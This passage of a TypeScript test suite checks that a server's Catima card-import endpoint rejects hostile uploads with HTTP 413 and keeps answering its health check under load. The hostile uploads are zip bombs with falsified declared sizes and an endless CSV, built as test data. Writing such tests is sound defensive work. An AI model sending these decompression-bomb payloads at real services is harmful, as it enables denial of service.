    ["a bomb that declares 100 bytes", () => zipOfDeflated("catima.csv", deflatedZeros(48), { size: 100 })],
    ["a bomb that declares the 2 MiB allowed", () => zipOfDeflated("catima.csv", deflatedZeros(48), { size: 2 * MIB })],
    ["a CSV of endless cards", endlessCatima],
  ];

  type Sent = { finished: Promise<void>; answered: Promise<number> };

  /** A request on `agent`'s one kept-alive connection: when its last byte is written, and its status once answered. */
  function send(agent: http.Agent, path: string, body?: FormData): Promise<Sent> {
    return (async () => {
      const encoded = body ? new Response(body) : null;
      const bytes = encoded ? Buffer.from(await encoded.arrayBuffer()) : null;
      const request = http.request(`${server.url}${path}`, {
        method: bytes ? "POST" : "GET",
        agent,
        headers: bytes
          ? { "content-type": encoded!.headers.get("content-type")!, "content-length": String(bytes.byteLength) }
          : {},
      });
      const answered = new Promise<number>((resolve, reject) => {
        request.on("response", (response) => {
          response.resume();
          response.on("end", () => resolve(response.statusCode ?? 0));
        });
        request.on("error", reject);
      });
      const finished = new Promise<void>((resolve) => request.on("finish", () => resolve()));
      request.end(bytes ?? undefined);
      return { finished, answered };
    })();
  }

  const fileForm = (file: Uint8Array) => {
    const form = new FormData();
    form.set("file", new Blob([new Uint8Array(file)]), "catima.zip");
    return form;
  };

  it.each(HOSTILE)("refuses %s with 413", async (_name, make) => {
    const { status, data } = await importFile(make(), { name: "catima.zip" });
    expect(status).toBe(413);
    expect(data).toMatchObject({ ok: false, error: { code: "payload_too_large" } });
  });

  it(
    "answers /labs/healthz while twenty hostile imports are being read",
    async () => {
      // Each request on a connection of its own, opened beforehand, so that
      // the order the server reads them in is the order they are written in.
      const agents = Array.from({ length: 21 }, () => new http.Agent({ keepAlive: true, maxSockets: 1 }));
      try {
        for (const agent of agents) expect(await (await send(agent, "/labs/healthz")).answered).toBe(200);
        const [probe, ...importers] = agents as [http.Agent, ...http.Agent[]];
        const forms = importers.map((_, i) => fileForm(HOSTILE[i % HOSTILE.length]![1]()));
        // The import's route loaded and its code run once, as on a server that has been up a while.
        expect(await (await send(importers[0]!, "/base-scan/api/import", forms[0])).answered).toBe(413);

        // Every import's last byte is written before the first health check is sent.
        const events: string[] = [];
        const imports = await Promise.all(importers.map((agent, i) => send(agent, "/base-scan/api/import", forms[i])));
        await Promise.all(imports.map((sent) => sent.finished));
        let pending = imports.length;
        const statuses = Promise.all(
          imports.map((sent) =>
            sent.answered.then((status) => {
              events.push("import");
              pending--;
              return status;
            }),
          ),
        );
        // Health checks one after another until every import is answered.
        while (pending > 0) {
          const status = await (await send(probe, "/labs/healthz")).answered;
          expect(status).toBe(200);
          if (pending > 0) events.push("healthz");
        }
        expect(new Set(await statuses)).toEqual(new Set([413]));
        // The server read every import before the first health check. Had
        // it inflated or parsed one in a single turn of its event loop, it
        // would have answered it before reading the health check at all.
        const answeredMeanwhile = events.slice(0, events.lastIndexOf("import")).filter((e) => e === "healthz");
        expect(answeredMeanwhile.length).toBeGreaterThan(0);
      } finally {
        for (const agent of agents) agent.destroy();
      }
    },
    OWN_SERVER_TIMEOUT_MS,
  );
});
